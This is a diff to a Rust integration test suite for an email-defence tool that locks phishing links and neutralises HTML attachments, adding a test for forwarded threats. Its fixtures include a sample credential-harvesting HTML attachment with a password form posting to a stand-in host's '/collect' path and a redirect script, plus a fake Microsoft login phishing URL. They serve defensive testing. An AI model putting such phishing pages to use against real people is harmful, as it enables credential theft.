@@ -9,7 +9,7 @@ mod common;
 use std::time::Duration;
 
 use common::postfix::{Harness, skip_reason};
-use harrier_respond::linklock::LinkKeys;
+use harrier_respond::linklock::{LinkClaims, LinkKeys};
 use mail_parser::{MessageParser, MimeHeaders};
 
 const CLEAN: &str = "From: Alice Example <alice@sender.example>\r\nTo: bob@recipient.example\r\n\
@@ -47,6 +47,17 @@ Content-Disposition: attachment; filename=\"secure-message.html\"\r\n\r\n\
 <html><body><form action=\"http://192.0.2.46/collect\">Password <input type=\"password\" name=\"p\"></form>\r\n\
 <script>window.location='http://192.0.2.46/x'</script></body></html>\r\n--b3--\r\n";
 
+/// A colleague forwards PHISHING_LINK and HTML_ATTACHMENT, each as an attached message (message/rfc822).
+fn forwarded_threats() -> String {
+    format!(
+        "From: Carol Example <carol@recipient.example>\r\nTo: bob@recipient.example\r\nSubject: Fwd: are these real?\r\n\
+Date: Fri, 04 Dec 2026 10:05:00 +0000\r\nMessage-ID: <forward-1@recipient.example>\r\nMIME-Version: 1.0\r\n\
+Content-Type: multipart/mixed; boundary=\"f1\"\r\n\r\n--f1\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\
+Bob, I got these two this morning. Are they real?\r\n--f1\r\nContent-Type: message/rfc822\r\n\r\n{PHISHING_LINK}\r\n\
+--f1\r\nContent-Type: message/rfc822\r\n\r\n{HTML_ATTACHMENT}\r\n--f1--\r\n"
+    )
+}
+
 /// Returns the header block and the body of a delivered message.
 fn split(message: &[u8]) -> (String, Vec<u8>) {
     let text = String::from_utf8_lossy(message);
@@ -60,6 +71,19 @@ fn header<'a>(headers: &'a str, name: &str) -> Option<&'a str> {
         .split("\r\n")
         .find(|line| line.to_ascii_lowercase().starts_with(&prefix))
         .map(|line| line[prefix.len()..].trim())
+}
+
+/// Verifies the token of the first link-lock URL in `html` with the harness's key and returns its claims.
+fn first_lock_claims(html: &str) -> LinkClaims {
+    let prefix = format!("{}/l/", common::postfix::LINK_BASE);
+    let start = html.find(&prefix).expect("a link-lock URL") + prefix.len();
+    let token: String = html[start..].chars().take_while(|c| *c != '"').collect();
+    let keys = LinkKeys::new(&[(
+        common::postfix::KEY_ID,
+        common::postfix::KEY_SECRET.as_slice(),
+    )]);
+    keys.verify(&token, jiff::Timestamp::now().as_second())
+        .expect("the token verifies")
 }
 
 macro_rules! harness_or_skip {
@@ -135,16 +159,7 @@ fn phishing_link_is_locked_alone() {
         "the link text stays: {html}"
     );
 
-    let prefix = format!("{}/l/", common::postfix::LINK_BASE);
-    let start = html.find(&prefix).expect("a link-lock URL") + prefix.len();
-    let token: String = html[start..].chars().take_while(|c| *c != '"').collect();
-    let keys = LinkKeys::new(&[(
-        common::postfix::KEY_ID,
-        common::postfix::KEY_SECRET.as_slice(),
-    )]);
-    let claims = keys
-        .verify(&token, jiff::Timestamp::now().as_second())
-        .expect("the token verifies");
+    let claims = first_lock_claims(&html);
     assert_eq!(claims.url, "http://192.0.2.44/microsoft/login");
     assert_eq!(claims.recipient, "bob@recipient.example");
 }
@@ -248,4 +263,51 @@ fn several_threats_held_then_released() {
         .find(|a| a["action"]["id"] == id.as_str())
         .map(|a| a["status"].clone());
     assert_eq!(status, Some(serde_json::json!("undone")));
+}
+
+#[test]
+fn forwarded_threats_are_rewritten() {
+    let harness = harness_or_skip!();
+    let sent = forwarded_threats();
+    harness.send(&sent);
+    let delivered = harness.receive();
+    let (headers, _) = split(&delivered);
+    let actions = header(&headers, "X-Harrier-Actions").unwrap_or_default();
+    assert!(actions.contains("lock_link done"), "{headers}");
+    assert!(actions.contains("neutralise_attachment done"), "{headers}");
+
+    let message = MessageParser::default()
+        .parse(&delivered)
+        .expect("the delivered message parses");
+    assert!(
+        message
+            .body_text(0)
+            .is_some_and(|t| t.contains("Are they real?")),
+        "the outer text part stays"
+    );
+    let phishing = message
+        .attachment(0)
+        .and_then(|a| a.message())
+        .expect("the first attached message");
+    assert_eq!(
+        phishing.subject(),
+        Some("Action required: verify your account")
+    );
+    let html = phishing.body_html(0).expect("an HTML body").into_owned();
+    assert!(!html.contains("192.0.2.44"), "the phishing href is gone: {html}");
+    assert!(
+        html.contains("href=\"https://www.example.org/help\""),
+        "the help link stays: {html}"
+    );
+    let claims = first_lock_claims(&html);
+    assert_eq!(claims.url, "http://192.0.2.44/microsoft/login");
+
+    let invoice = message
+        .attachment(1)
+        .and_then(|a| a.message())
+        .expect("the second attached message");
+    let attachment = invoice.attachment(0).expect("the replacement");
+    assert_eq!(attachment.attachment_name(), Some("invoice.html.txt"));
+    let note = String::from_utf8_lossy(attachment.contents()).into_owned();
+    assert!(note.contains("html_credential_form"), "{note}");
 }
